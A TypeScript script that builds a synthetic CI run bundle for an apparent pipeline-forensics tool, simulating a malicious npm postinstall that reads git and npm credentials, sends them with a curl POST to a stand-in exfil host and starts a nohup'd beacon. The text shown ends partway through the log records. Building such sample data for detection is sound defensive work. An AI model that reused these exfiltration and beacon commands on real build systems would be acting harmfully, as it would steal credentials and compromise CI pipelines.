/**
 * Writes the sample run bundle `resources/sample-bundle/` (a FOLDER bundle, format v1): the default case of
 * Runlens. Written for this project, deterministic (run it twice, get the same bytes), documentation domains and
 * addresses only. The story is told in resources/sample-bundle.md (not written by this script; kept beside the bundle so importing it gives no warning).
 *
 *   npx tsx scripts/make-sample-bundle.ts [outDir]
 *
 * Job `test` of `acme/web`: during "Run npm ci" a dependency's postinstall (`evil-pkg`) posts collected data with
 * curl to telemetry.exfil.example (outside the allow-list, HTTP POST /v2/collect) and leaves a nohup'ed background
 * process (`node .cache/beacon.js`) that calls beacon.exfil.example:443 during "Run npm test". The curl reuses the
 * pid of a short-lived `git checkout` of the checkout step.
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { formatNanos, parseRfc3339 } from '../shared/time';

const outDir = path.resolve(process.argv[2] ?? path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'resources', 'sample-bundle'));

// ---------------------------------------------------------------- time
const BASE = parseRfc3339('2026-10-14T09:12:00Z');
/** Seconds after 09:12:00Z -> ns; a deterministic sub-millisecond tail so times look measured, not typed. */
let tick = 0;
function ns(sec: number, exact = false): bigint {
  const base = BASE + BigInt(Math.round(sec * 1e6)) * 1000n;
  if (exact) return base;
  // < 0.4 ms, so records that other sources (ms-precision process table) also saw stay within the 1 ms merge window
  tick = (tick * 7919 + 104_729) % 400_000;
  return base + BigInt(tick);
}
const ts9 = (sec: number, exact = false) => formatNanos(ns(sec, exact));
/** GitHub's log timestamp: 7 fractional digits. */
const ts7 = (sec: number) => {
  const s = formatNanos(BASE + BigInt(Math.round(sec * 1e7)) * 100n);
  return s.slice(0, 27) + 'Z';
};
/** Process-table time: milliseconds. */
const tsMs = (sec: number) => formatNanos(BASE + BigInt(Math.round(sec * 1000)) * 1_000_000n).slice(0, 23) + 'Z';
const sha = (label: string) => createHash('sha256').update(label).digest('hex');

// ---------------------------------------------------------------- constants of the story
const CHECKOUT_SHA = '11bd71901bbe5b1630ceea73d27597364c9af683';
const SETUP_NODE_SHA = '49933ea5288caeca8642d1e84afbd3f7d6820020';
const HEAD_SHA = '9f1c2e7a4b3d5c6e8f90a1b2c3d4e5f60718293a';
const WORK = '/home/runner/work/web/web';
const RUNNER_BIN = '/home/runner/actions-runner/cached/bin';
const WORKER_EXE = `${RUNNER_BIN}/Runner.Worker`;
const NODE20 = '/home/runner/actions-runner/cached/externals/node20/bin/node';
const NODE = '/opt/hostedtoolcache/node/22.20.0/x64/bin/node';
const NPM = '/opt/hostedtoolcache/node/22.20.0/x64/bin/npm';
const EVIL = `${WORK}/node_modules/evil-pkg`;
const LOOT = '/tmp/.npm-cache-8f3a.json';
const TEMP = '/home/runner/work/_temp';

const STEPS = [
  { number: 1, name: 'Set up job', start: 3.1, end: 5.4 },
  { number: 2, name: `Run actions/checkout@${CHECKOUT_SHA}`, uses: `actions/checkout@${CHECKOUT_SHA}`, start: 5.4, end: 7.9 },
  { number: 3, name: `Run actions/setup-node@${SETUP_NODE_SHA}`, uses: `actions/setup-node@${SETUP_NODE_SHA}`, start: 7.9, end: 10.2 },
  { number: 4, name: 'Run npm ci', start: 10.2, end: 31.8 },
  { number: 5, name: 'Run npm test', start: 31.8, end: 108.6 },
  { number: 6, name: `Post Run actions/checkout@${CHECKOUT_SHA}`, uses: `actions/checkout@${CHECKOUT_SHA}`, start: 108.6, end: 109.3 },
  { number: 7, name: 'Complete job', start: 109.3, end: 113.0 },
] as const;

// ---------------------------------------------------------------- processes
interface ProcEvent {
  sec: number;
  json: Record<string, unknown>;
}
const procEvents: ProcEvent[] = [];
const tableRows: { pid: number; ppid: number; start: string; end: string; exe: string; args: string; cwd: string; uid: number }[] = [];

function proc(pid: number, ppid: number, start: number, end: number | null, exe: string, args: string[], cwd = WORK, exitCode = 0): void {
  procEvents.push({ sec: start, json: { ts: ts9(start), event: 'exec', pid, ppid, exe, args, cwd, uid: 1001 } });
  if (end !== null) procEvents.push({ sec: end, json: { ts: ts9(end), event: 'exit', pid, exit_code: exitCode } });
}
const git = (pid: number, start: number, dur: number, ...args: string[]) => proc(pid, 1812, start, start + dur, '/usr/bin/git', ['git', ...args]);

// The runner's worker (its parent, the listener, and init are only in the process table).
proc(1710, 1581, 2.950117, 113.2004, WORKER_EXE, [WORKER_EXE, 'spawnclient', '139', '142'], '/home/runner/actions-runner/cached');

// Step 2: actions/checkout (node20 of the runner) and its git commands.
proc(1812, 1710, 5.452, 7.851, NODE20, [NODE20, `/home/runner/work/_actions/actions/checkout/${CHECKOUT_SHA}/dist/index.js`]);
git(1813, 5.61, 0.018, 'version');
git(1814, 5.66, 0.012, 'config', '--global', '--add', 'safe.directory', WORK);
git(1815, 5.74, 0.031, 'init', WORK);
git(1816, 5.81, 0.011, 'remote', 'add', 'origin', 'https://github.com/acme/web');
git(1817, 5.85, 0.009, 'config', '--local', 'gc.auto', '0');
git(1818, 5.88, 0.008, 'config', '--local', '--name-only', '--get-regexp', 'core\\.sshCommand');
git(1819, 5.9, 0.042, 'submodule', 'foreach', '--recursive', "sh -c \"git config --local --name-only --get-regexp 'core\\.sshCommand' && git config --local --unset-all 'core.sshCommand' || :\"");
git(1820, 5.95, 0.008, 'config', '--local', '--name-only', '--get-regexp', 'http\\.https\\:\\/\\/github\\.com\\/\\.extraheader');
git(1821, 5.97, 0.04, 'submodule', 'foreach', '--recursive', "sh -c \"git config --local --name-only --get-regexp 'http\\.https\\:\\/\\/github\\.com\\/\\.extraheader' && git config --local --unset-all 'http.https://github.com/.extraheader' || :\"");
git(1822, 6.02, 0.009, 'config', '--local', 'http.https://github.com/.extraheader', 'AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46KioqKio=');
git(1823, 6.05, 0.97, '-c', 'protocol.version=2', 'fetch', '--no-tags', '--prune', '--no-recurse-submodules', '--depth=1', 'origin', `+${HEAD_SHA}:refs/remotes/origin/main`);
proc(1824, 1823, 6.081, 7.0, '/usr/lib/git-core/git-remote-https', ['git-remote-https', 'origin', 'https://github.com/acme/web']);
git(1825, 7.05, 0.01, 'sparse-checkout', 'disable');
git(1826, 7.07, 0.009, 'config', '--local', '--unset-all', 'extensions.worktreeConfig');
// The short-lived git whose pid (1827) the exfiltrating curl gets again during npm ci.
git(1827, 7.1, 0.214, 'checkout', '--progress', '--force', '-B', 'main', 'refs/remotes/origin/main');
git(1828, 7.35, 0.012, 'log', '-1', '--format=%H');

// Step 3: actions/setup-node.
proc(1905, 1710, 7.951, 10.147, NODE20, [NODE20, `/home/runner/work/_actions/actions/setup-node/${SETUP_NODE_SHA}/dist/setup/index.js`]);
proc(1907, 1905, 9.21, 9.87, '/usr/bin/tar', ['tar', 'xz', '--strip', '1', '--warning=no-unknown-keyword', '--overwrite', '-C', `${TEMP}/8c4b0f2e-1f6a-4c1e-9d55-0b7a3e2d9f11`, '-f', `${TEMP}/2f0d9a61-5b3e-4c8f-a0e2-6d1b7c9e4f30`]);
proc(1910, 1905, 10.01, 10.04, NODE, [NODE, '--version']);
proc(1911, 1905, 10.05, 10.11, NODE, [NODE, NPM, '--version']);
proc(1912, 1905, 10.115, 10.14, '/usr/local/bin/yarn', ['yarn', '--version']);

// Step 4: npm ci and the malicious postinstall.
proc(2101, 1710, 10.241, 31.742, '/usr/bin/bash', ['bash', '-e', `${TEMP}/5c1f0c9e-7a3b-4d2e-8f61-2b9d0e4a7c13.sh`]);
proc(2102, 2101, 10.252, 31.713, NODE, [NODE, NPM, 'ci']);
proc(2140, 2102, 20.1, 22.91, '/usr/bin/sh', ['sh', '-c', 'node scripts/postinstall.js'], EVIL);
proc(2141, 2140, 20.105, 22.85, NODE, ['node', 'scripts/postinstall.js'], EVIL);
// nohup node .cache/beacon.js &: sh forks, the child execs nohup, nohup execs node (same pid: exec replacing exec).
proc(2142, 2141, 21.05, 21.069, '/usr/bin/sh', ['sh', '-c', 'nohup node .cache/beacon.js >/dev/null 2>&1 &'], EVIL);
procEvents.push({ sec: 21.0611, json: { ts: ts9(21.0611), event: 'exec', pid: 2144, ppid: 2142, exe: '/usr/bin/nohup', args: ['nohup', 'node', '.cache/beacon.js'], cwd: EVIL, uid: 1001 } });
const BEACON_EXEC = ts9(21.0618);
procEvents.push({ sec: 21.0618, json: { ts: BEACON_EXEC, event: 'exec', pid: 2144, ppid: 2142, exe: NODE, args: ['node', '.cache/beacon.js'], cwd: EVIL, uid: 1001 } });
procEvents.push({ sec: 112.1, json: { ts: ts9(112.1), event: 'exit', pid: 2144, exit_code: 143 } });
proc(2145, 2141, 21.4, 21.95, '/usr/bin/sh', ['sh', '-c', `curl -sS -X POST https://telemetry.exfil.example/v2/collect -d @${LOOT}`], EVIL);
proc(1827, 2145, 21.417803, 21.93, '/usr/bin/curl', ['curl', '-sS', '-X', 'POST', 'https://telemetry.exfil.example/v2/collect', '-d', `@${LOOT}`], EVIL);
proc(2150, 2102, 23.0, 24.2, '/usr/bin/sh', ['sh', '-c', 'node install.js'], `${WORK}/node_modules/esbuild`);
proc(2151, 2150, 23.006, 24.15, NODE, ['node', 'install.js'], `${WORK}/node_modules/esbuild`);

// Step 5: npm test.
proc(2301, 1710, 31.842, 108.55, '/usr/bin/bash', ['bash', '-e', `${TEMP}/a0e7d3b2-9c4f-4e18-b6a1-7f2c5d8e0b94.sh`]);
proc(2302, 2301, 31.853, 108.5, NODE, [NODE, NPM, 'test']);
proc(2303, 2302, 32.3, 108.45, '/usr/bin/sh', ['sh', '-c', 'vitest run && node scripts/check-bundle-size.js']);
proc(2304, 2303, 32.31, 100.2, NODE, ['node', `${WORK}/node_modules/.bin/vitest`, 'run']);
proc(2305, 2304, 33.02, 99.6, NODE, [NODE, `${WORK}/node_modules/vitest/dist/workers/forks.js`]);
proc(2306, 2304, 33.05, 99.7, NODE, [NODE, `${WORK}/node_modules/vitest/dist/workers/forks.js`]);
proc(2310, 2303, 100.4, 108.4, NODE, ['node', 'scripts/check-bundle-size.js'], WORK, 0);

// Step 6: post checkout.
proc(2401, 1710, 108.65, 109.25, NODE20, [NODE20, `/home/runner/work/_actions/actions/checkout/${CHECKOUT_SHA}/dist/index.js`]);
const pgit = (pid: number, start: number, ...args: string[]) => proc(pid, 2401, start, start + 0.012, '/usr/bin/git', ['git', ...args]);
pgit(2402, 108.8, 'version');
pgit(2403, 108.84, 'config', '--global', '--add', 'safe.directory', WORK);
pgit(2404, 108.88, 'config', '--local', '--name-only', '--get-regexp', 'core\\.sshCommand');
pgit(2405, 108.95, 'config', '--local', '--name-only', '--get-regexp', 'http\\.https\\:\\/\\/github\\.com\\/\\.extraheader');
pgit(2406, 109.02, 'config', '--local', '--unset-all', 'http.https://github.com/.extraheader');

// The process table: a snapshot taken by another collector (ms precision, one shell-quoted command line). Rows for
// the worker, npm, curl and the beacon overlap processes.jsonl within 1 ms (same instances, merged on import).
tableRows.push(
  { pid: 1, ppid: 0, start: '2026-10-14T09:05:11.204Z', end: '', exe: '/sbin/init', args: '/sbin/init splash', cwd: '/', uid: 0 },
  { pid: 1581, ppid: 1, start: '2026-10-14T09:05:48.730Z', end: '', exe: `${RUNNER_BIN}/Runner.Listener`, args: `${RUNNER_BIN}/Runner.Listener run --startuptype service`, cwd: '/home/runner/actions-runner/cached', uid: 1001 },
  { pid: 1710, ppid: 1581, start: tsMs(2.95), end: tsMs(113.2), exe: WORKER_EXE, args: `${WORKER_EXE} spawnclient 139 142`, cwd: '/home/runner/actions-runner/cached', uid: 1001 },
  { pid: 2102, ppid: 2101, start: tsMs(10.252), end: tsMs(31.713), exe: NODE, args: `${NODE} ${NPM} ci`, cwd: WORK, uid: 1001 },
  { pid: 1827, ppid: 2145, start: tsMs(21.418), end: tsMs(21.93), exe: '/usr/bin/curl', args: `curl -sS -X POST https://telemetry.exfil.example/v2/collect -d @${LOOT}`, cwd: EVIL, uid: 1001 },
  { pid: 2144, ppid: 2142, start: tsMs(21.061), end: tsMs(112.1), exe: NODE, args: "node '.cache/beacon.js'", cwd: EVIL, uid: 1001 },
);

// ---------------------------------------------------------------- DNS and network
interface Timed {
  sec: number;
  json: Record<string, unknown>;
}
const dns: Timed[] = [];
const net: Timed[] = [];
function resolve(sec: number, domain: string, answers: string[], pid: number | null): void {
  const j: Record<string, unknown> = { ts: ts9(sec), domain, answers, type: 'A' };
  if (pid !== null) j.pid = pid;
  dns.push({ sec, json: j });
}
function connect(sec: number, pid: number, domain: string | null, ip: string, http?: { method: string; host?: string; path: string; status_code: number }, extra: Record<string, unknown> = {}): void {
  const j: Record<string, unknown> = { ts: ts9(sec), pid };
  if (domain) j.domain = domain;
  j.ip = ip;
  j.port = 443;
  j.protocol = 'tcp';
  j.status = 'allowed';
  if (http) j.http = { method: http.method, host: http.host ?? domain, path: http.path, status_code: http.status_code };
  Object.assign(j, extra);
  net.push({ sec, json: j });
}

const API = '192.0.2.20', CODELOAD = '192.0.2.21', GITHUB = '192.0.2.10', REG1 = '192.0.2.80', REG2 = '192.0.2.81';
const TELEMETRY = '203.0.113.45', BEACON = '198.51.100.77';

// Step 1: the worker downloads the actions.
resolve(3.58, 'api.github.com', [API], 1710);
connect(3.612, 1710, 'api.github.com', API, { method: 'POST', path: '/repos/acme/web/actions/runs/18311492377/jobs/81853656807/actions', status_code: 200 });
connect(3.95, 1710, 'api.github.com', API, { method: 'GET', path: `/repos/actions/checkout/tarball/${CHECKOUT_SHA}`, status_code: 302 });
resolve(3.99, 'codeload.github.com', [CODELOAD], 1710);
connect(4.021, 1710, 'codeload.github.com', CODELOAD);
connect(4.31, 1710, 'api.github.com', API, { method: 'GET', path: `/repos/actions/setup-node/tarball/${SETUP_NODE_SHA}`, status_code: 302 });
connect(4.402, 1710, 'codeload.github.com', CODELOAD);
// A shared-hosting name once resolved to the address the beacon uses later (the DNS fill must take the latest).
resolve(5.02, 'mirror.example.net', [BEACON], null);

// Step 2: git fetch over HTTPS.
resolve(6.1, 'github.com', [GITHUB], 1824);
connect(6.124, 1824, 'github.com', GITHUB, { method: 'GET', path: '/acme/web/info/refs?service=git-upload-pack', status_code: 200 });
connect(6.41, 1824, 'github.com', GITHUB, { method: 'POST', path: '/acme/web/git-upload-pack', status_code: 200 });

// Step 3: setup-node downloads Node.js 22.
resolve(8.08, 'api.github.com', [API], 1905);
connect(8.103, 1905, 'api.github.com', API, { method: 'GET', path: '/repos/actions/node-versions/releases', status_code: 200 });
resolve(8.43, 'github.com', [GITHUB], 1905);
connect(8.451, 1905, 'github.com', GITHUB, { method: 'GET', path: '/actions/node-versions/releases/download/22.20.0-17941127851/node-22.20.0-linux-x64.tar.gz', status_code: 302 });
connect(8.73, 1905, 'github.com', GITHUB);

// Step 4: npm ci fetches tarballs from the private registry (keep-alive: one connection for several requests).
const PACKAGES: [string, string][] = [
  ['react', '19.2.0'], ['react-dom', '19.2.0'], ['scheduler', '0.27.0'], ['d3', '7.9.0'], ['d3-array', '3.2.4'],
  ['d3-axis', '3.0.0'], ['d3-brush', '3.0.0'], ['d3-chord', '3.0.1'], ['d3-color', '3.1.0'], ['d3-contour', '4.0.2'],
  ['d3-delaunay', '6.0.4'], ['d3-dispatch', '3.0.1'], ['d3-drag', '3.0.0'], ['d3-dsv', '3.0.1'], ['d3-ease', '3.0.1'],
  ['d3-fetch', '3.0.1'], ['d3-force', '3.0.0'], ['d3-format', '3.1.0'], ['d3-geo', '3.1.1'], ['d3-hierarchy', '3.1.2'],
  ['d3-interpolate', '3.0.1'], ['d3-path', '3.1.0'], ['d3-polygon', '3.0.1'], ['d3-quadtree', '3.0.1'], ['d3-random', '3.0.1'],
  ['d3-scale', '4.0.2'], ['d3-scale-chromatic', '3.1.0'], ['d3-selection', '3.0.0'], ['d3-shape', '3.2.0'], ['d3-time', '3.1.0'],
  ['d3-time-format', '4.1.0'], ['d3-timer', '3.0.1'], ['d3-transition', '3.0.1'], ['d3-zoom', '3.0.0'], ['delaunator', '5.0.1'],
  ['robust-predicates', '3.0.2'], ['internmap', '2.0.3'], ['commander', '7.2.0'], ['iconv-lite', '0.6.3'], ['safer-buffer', '2.1.2'],
  ['rw', '1.3.3'], ['zod', '4.1.5'], ['evil-pkg', '2.4.1'], ['vite', '7.1.5'], ['esbuild', '0.25.10'],
  ['@esbuild/linux-x64', '0.25.10'], ['rollup', '4.50.1'], ['@rollup/rollup-linux-x64-gnu', '4.50.1'], ['postcss', '8.5.6'], ['nanoid', '3.3.11'],
  ['picocolors', '1.1.1'], ['source-map-js', '1.2.1'], ['fdir', '6.5.0'], ['picomatch', '4.0.3'], ['tinyglobby', '0.2.15'],
  ['vitest', '3.2.4'], ['@vitest/expect', '3.2.4'], ['@vitest/runner', '3.2.4'], ['@vitest/snapshot', '3.2.4'], ['@vitest/spy', '3.2.4'],
  ['@vitest/utils', '3.2.4'], ['@vitest/pretty-format', '3.2.4'], ['@vitest/mocker', '3.2.4'], ['chai', '5.3.3'], ['assertion-error', '2.0.1'],
  ['check-error', '2.1.1'], ['deep-eql', '5.0.2'], ['loupe', '3.2.1'], ['pathval', '2.0.1'], ['tinypool', '1.1.1'],
  ['tinyrainbow', '2.0.0'], ['tinyspy', '4.0.3'], ['tinybench', '2.9.0'], ['tinyexec', '0.3.2'], ['std-env', '3.9.0'],
  ['magic-string', '0.30.19'], ['@jridgewell/sourcemap-codec', '1.5.5'], ['pathe', '2.0.3'], ['debug', '4.4.1'], ['ms', '2.1.3'],
  ['es-module-lexer', '1.7.0'], ['expect-type', '1.2.2'], ['why-is-node-running', '2.3.0'], ['siginfo', '2.0.0'], ['stackback', '0.0.2'],
  ['typescript', '5.9.2'], ['@types/react', '19.1.13'], ['@types/react-dom', '19.1.9'], ['csstype', '3.1.3'], ['@types/d3', '7.4.3'],
  ['@types/node', '22.18.1'], ['undici-types', '6.21.0'], ['inflight', '1.0.6'], ['glob', '7.2.3'], ['once', '1.4.0'],
  ['wrappy', '1.0.2'], ['minimatch', '3.1.2'], ['brace-expansion', '1.1.12'], ['balanced-match', '1.0.2'], ['concat-map', '0.0.1'],
  ['fs.realpath', '1.0.0'], ['inherits', '2.0.4'], ['path-is-absolute', '1.0.1'], ['estree-walker', '3.0.3'], ['@types/estree', '1.0.8'],
];
const tarball = (name: string, version: string) => `/${name}/-/${name.includes('/') ? name.split('/')[1] : name}-${version}.tgz`;
resolve(10.851, 'registry.example.org', [REG1, REG2], 2102);
const fetchLines: [number, string][] = [];
PACKAGES.forEach(([name, version], i) => {
  const sec = 10.92 + i * 0.0815;
  const ms = 40 + ((i * 37) % 260);
  fetchLines.push([sec + ms / 1000, `npm http fetch GET 200 https://registry.example.org${tarball(name, version)} ${ms}ms (cache miss)`]);
  if (i % 6 === 0) {
    connect(sec - 0.012, 2102, 'registry.example.org', i % 12 === 0 ? REG1 : REG2, { method: 'GET', path: tarball(name, version), status_code: 200 });
  }
});

// The postinstall: reads the checkout's persisted credentials, collects, posts with curl, starts the beacon.
resolve(21.298, 'beacon.exfil.example', [BEACON], 2144);
resolve(21.451, 'telemetry.exfil.example', [TELEMETRY], 1827);
connect(21.522, 1827, 'telemetry.exfil.example', TELEMETRY, { method: 'POST', path: '/v2/collect', status_code: 202 }, {
  tool: { name: 'curl', sha256: sha('/usr/bin/curl 8.5.0') },
  policy: { reason: 'audit: endpoint not in allowed_endpoints' },
});
resolve(23.281, 'registry.example.org', [REG2], 2151);
connect(23.302, 2151, 'registry.example.org', REG2, { method: 'GET', path: '/@esbuild/linux-x64/-/linux-x64-0.25.10.tgz', status_code: 200 });
connect(30.204, 2102, 'registry.example.org', REG1, { method: 'POST', path: '/-/npm/v1/security/advisories/bulk', status_code: 200 });

// Step 5: the beacon left by npm ci calls home every 30 s while the tests run. The second call has only an IP
// (its domain comes from the beacon's own resolution at 21.298 s, not the older mirror.example.net one).
resolve(60.013, 'cdn.example.net', ['198.51.100.78'], null);
connect(40.527, 2144, 'beacon.exfil.example', BEACON, { method: 'POST', path: '/b', status_code: 204 }, { policy: { reason: 'audit: endpoint not in allowed_endpoints' } });
connect(70.528, 2144, null, BEACON);
connect(100.529, 2144, 'beacon.exfil.example', BEACON, { method: 'POST', path: '/b', status_code: 204 }, { policy: { reason: 'audit: endpoint not in allowed_endpoints' } });

// Step 7: the worker reports the job.
resolve(110.18, 'api.github.com', [API], 1710);
connect(110.204, 1710, 'api.github.com', API, { method: 'POST', path: '/repos/acme/web/actions/runs/18311492377/jobs/81853656807/logs', status_code: 201 });
connect(112.61, 1710, 'api.github.com', API, { method: 'PATCH', path: '/repos/acme/web/actions/runs/18311492377/jobs/81853656807', status_code: 200 });

// ---------------------------------------------------------------- files
const files: Timed[] = [];
function file(sec: number, pid: number, exe: string, p: string, op: string, content?: string): void {
  const j: Record<string, unknown> = { ts: ts9(sec), pid, exe, path: p, op };
  if (content !== undefined) j.sha256 = sha(content);
  files.push({ sec, json: j });
}
file(5.77, 1815, '/usr/bin/git', `${WORK}/.git/config`, 'write', 'git init config');
file(6.03, 1822, '/usr/bin/git', `${WORK}/.git/config`, 'overwrite', 'git config with extraheader');
file(7.2, 1827, '/usr/bin/git', `${WORK}/package.json`, 'write', 'package.json of acme/web');
file(7.21, 1827, '/usr/bin/git', `${WORK}/package-lock.json`, 'write', 'package-lock.json of acme/web');
file(7.22, 1827, '/usr/bin/git', `${WORK}/src/index.ts`, 'write', 'src/index.ts');
file(9.5, 1907, '/usr/bin/tar', `${TEMP}/8c4b0f2e-1f6a-4c1e-9d55-0b7a3e2d9f11/bin/node`, 'write', 'node 22.20.0');
file(14.41, 2102, NODE, `${EVIL}/package.json`, 'write', 'evil-pkg package.json');
file(14.42, 2102, NODE, `${EVIL}/scripts/postinstall.js`, 'write', 'evil-pkg postinstall.js');
file(20.31, 2141, NODE, `${WORK}/.git/config`, 'read');
file(20.33, 2141, NODE, '/home/runner/.npmrc', 'read');
file(20.62, 2141, NODE, LOOT, 'write', 'collected environment and git credentials');
file(20.91, 2141, NODE, `${EVIL}/.cache/beacon.js`, 'write', 'beacon.js');
file(21.463, 1827, '/usr/bin/curl', LOOT, 'read');
file(22.8, 2141, NODE, LOOT, 'delete');
file(24.05, 2151, NODE, `${WORK}/node_modules/@esbuild/linux-x64/bin/esbuild`, 'write', 'esbuild binary');
file(24.06, 2151, NODE, `${WORK}/node_modules/@esbuild/linux-x64/bin/esbuild`, 'chmod');
file(100.6, 2310, NODE, `${WORK}/dist/assets/index-3f9c2a.js`, 'read');
file(109.03, 2406, '/usr/bin/git', `${WORK}/.git/config`, 'overwrite', 'git config without extraheader');

// ---------------------------------------------------------------- detections
const detections = [
  { id: 'det-0001', kind: 'suspicious-process', severity: 'medium', title: 'Background process started with nohup by a dependency lifecycle script (evil-pkg postinstall)', ts: BEACON_EXEC, pid: 2144 },
  { id: 'det-0002', kind: 'anomalous-endpoint', severity: 'high', title: 'curl POST to telemetry.exfil.example from an npm postinstall script', ts: ts9(21.522, true), endpoint: 'telemetry.exfil.example:443', pid: 1827 },
  { id: 'det-0003', kind: 'anomalous-endpoint', severity: 'high', title: 'Periodic calls to beacon.exfil.example by a process that outlived its step', ts: ts9(40.527, true), endpoint: 'beacon.exfil.example:443', pid: 2144 },
];

// ---------------------------------------------------------------- logs
const ESC = '\x1b';
const cyan = (s: string) => `${ESC}[36;1m${s}${ESC}[0m`;
const logs = new Map<number, [number, string][]>();
for (const s of STEPS) logs.set(s.number, []);
const L = (stepNo: number, sec: number, text: string) => logs.get(stepNo)!.push([sec, text]);
/** Lines spaced `gap` seconds apart from `sec`. */
function seq(stepNo: number, sec: number, gap: number, lines: string[]): number {
  for (const l of lines) {
    L(stepNo, sec, l);
    sec += gap;
  }
  return sec;
}

// 1 Set up job
seq(1, 3.1362, 0.0011, [
  "Current runner version: '2.329.0'",
  '##[group]Runner Image Provisioner',
  'Hosted Compute Agent',
  'Version: 20260910.401',
  'Commit: 5e2f8a61c0b94d7e3a1f6c28b07d4e95a3c1f7b2',
  'Build Date: 2026-09-10T17:02:41Z',
  'Worker ID: {7d3c1a9e-2b4f-4e61-9a8d-0c5b6e7f8a91}',
  'Azure Region: westus3',
  '##[endgroup]',
  '##[group]Operating System',
  'Ubuntu',
  '24.04.3',
  'LTS',
  '##[endgroup]',
  '##[group]Runner Image',
  'Image: ubuntu-24.04',
  'Version: 20260928.102.1',
  'Included Software: https://github.com/actions/runner-images/blob/ubuntu24/20260928.102/images/ubuntu/Ubuntu2404-Readme.md',
  'Image Release: https://github.com/actions/runner-images/releases/tag/ubuntu24%2F20260928.102',
  '##[endgroup]',
  '##[group]GITHUB_TOKEN Permissions',
  'Contents: read',
  'Metadata: read',
  'Packages: read',
  '##[endgroup]',
  'Secret source: Actions',
  'Prepare workflow directory',
]);
seq(1, 3.5804, 0.0101, ['Prepare all required actions', 'Getting action download info']);
L(1, 3.9623, `Download action repository 'actions/checkout@${CHECKOUT_SHA}' (SHA:${CHECKOUT_SHA})`);
L(1, 4.3071, `Download action repository 'actions/setup-node@${SETUP_NODE_SHA}' (SHA:${SETUP_NODE_SHA})`);
L(1, 5.3712, 'Complete job name: test');

// 2 checkout
seq(2, 5.4321, 0.0004, [
  `##[group]Run actions/checkout@${CHECKOUT_SHA}`,
  'with:',
  '  repository: acme/web',
  '  token: ***',
  '  ssh-strict: true',
  '  ssh-user: git',
  '  persist-credentials: true',
  '  clean: true',
  '  sparse-checkout-cone-mode: true',
  '  fetch-depth: 1',
  '  fetch-tags: false',
  '  show-progress: true',
  '  lfs: false',
  '  submodules: false',
  '  set-safe-directory: true',
  '##[endgroup]',
  'Syncing repository: acme/web',
  '##[group]Getting Git version info',
  `Working directory is '${WORK}'`,
]);
seq(2, 5.6092, 0.0051, ['[command]/usr/bin/git version', 'git version 2.51.0', '##[endgroup]']);
seq(2, 5.6521, 0.0031, [
  `Temporarily overriding HOME='${TEMP}/0b1ec4a2-7d95-4f3b-8c61-e2a9d07f5b38' before making global git config changes`,
  'Adding repository directory to the temporary git global config as a safe directory',
  `[command]/usr/bin/git config --global --add safe.directory ${WORK}`,
  `Deleting the contents of '${WORK}'`,
  '##[group]Initializing the repository',
  `[command]/usr/bin/git init ${WORK}`,
  "hint: Using 'master' as the name for the initial branch. This default branch name",
  'hint: is subject to change. To configure the initial branch name to use in all',
  'hint: of your new repositories, which will suppress this warning, call:',
  'hint:',
  'hint: \tgit config --global init.defaultBranch <name>',
  'hint:',
  "hint: Names commonly chosen instead of 'master' are 'main', 'trunk' and",
  "hint: 'development'. The just-created branch can be renamed via this command:",
  'hint:',
  'hint: \tgit branch -m <name>',
  `Initialized empty Git repository in ${WORK}/.git/`,
]);
seq(2, 5.8093, 0.0042, [
  '[command]/usr/bin/git remote add origin https://github.com/acme/web',
  '##[endgroup]',
  '##[group]Disabling automatic garbage collection',
  '[command]/usr/bin/git config --local gc.auto 0',
  '##[endgroup]',
  '##[group]Setting up auth',
  '[command]/usr/bin/git config --local --name-only --get-regexp core\\.sshCommand',
  "[command]/usr/bin/git submodule foreach --recursive sh -c \"git config --local --name-only --get-regexp 'core\\.sshCommand' && git config --local --unset-all 'core.sshCommand' || :\"",
  '[command]/usr/bin/git config --local --name-only --get-regexp http\\.https\\:\\/\\/github\\.com\\/\\.extraheader',
  "[command]/usr/bin/git submodule foreach --recursive sh -c \"git config --local --name-only --get-regexp 'http\\.https\\:\\/\\/github\\.com\\/\\.extraheader' && git config --local --unset-all 'http.https://github.com/.extraheader' || :\"",
  '[command]/usr/bin/git config --local http.https://github.com/.extraheader AUTHORIZATION: basic ***',
  '##[endgroup]',
  '##[group]Fetching the repository',
]);
L(2, 6.0482, `[command]/usr/bin/git -c protocol.version=2 fetch --no-tags --prune --no-recurse-submodules --depth=1 origin +${HEAD_SHA}:refs/remotes/origin/main`);
seq(2, 7.0011, 0.0007, ['From https://github.com/acme/web', ` * [new ref]         ${HEAD_SHA} -> origin/main`, '##[endgroup]', '##[group]Determining the checkout info', '##[endgroup]']);
seq(2, 7.0492, 0.0171, ['[command]/usr/bin/git sparse-checkout disable', '[command]/usr/bin/git config --local --unset-all extensions.worktreeConfig']);
seq(2, 7.0981, 0.0007, ['##[group]Checking out the ref', '[command]/usr/bin/git checkout --progress --force -B main refs/remotes/origin/main']);
seq(2, 7.3132, 0.0004, ["Switched to a new branch 'main'", "branch 'main' set up to track 'origin/main'.", '##[endgroup]', '[command]/usr/bin/git log -1 --format=%H']);
L(2, 7.3651, `'${HEAD_SHA}'`);

// 3 setup-node
seq(3, 7.9322, 0.0003, [
  `##[group]Run actions/setup-node@${SETUP_NODE_SHA}`,
  'with:',
  '  node-version: 22',
  '  always-auth: false',
  '  check-latest: false',
  '  token: ***',
  '##[endgroup]',
]);
seq(3, 8.0711, 0.0021, ['Attempting to download 22...']);
L(3, 8.4403, 'Acquiring 22.20.0 - x64 from https://github.com/actions/node-versions/releases/download/22.20.0-17941127851/node-22.20.0-linux-x64.tar.gz');
L(3, 9.2012, 'Extracting ...');
L(3, 9.2041, `[command]/usr/bin/tar xz --strip 1 --warning=no-unknown-keyword --overwrite -C ${TEMP}/8c4b0f2e-1f6a-4c1e-9d55-0b7a3e2d9f11 -f ${TEMP}/2f0d9a61-5b3e-4c8f-a0e2-6d1b7c9e4f30`);
L(3, 9.8812, 'Adding to the cache ...');
seq(3, 10.0003, 0.0431, ['##[group]Environment details', 'node: v22.20.0', 'npm: 10.9.3', 'yarn: 1.22.22', '##[endgroup]']);

// 4 npm ci
seq(4, 10.2213, 0.0002, [
  '##[group]Run npm ci',
  cyan('npm ci'),
  'shell: /usr/bin/bash -e {0}',
  'env:',
  '  NPM_CONFIG_LOGLEVEL: http',
  '  NPM_CONFIG_FOREGROUND_SCRIPTS: true',
  '##[endgroup]',
]);
for (const [sec, text] of fetchLines) L(4, sec, text);
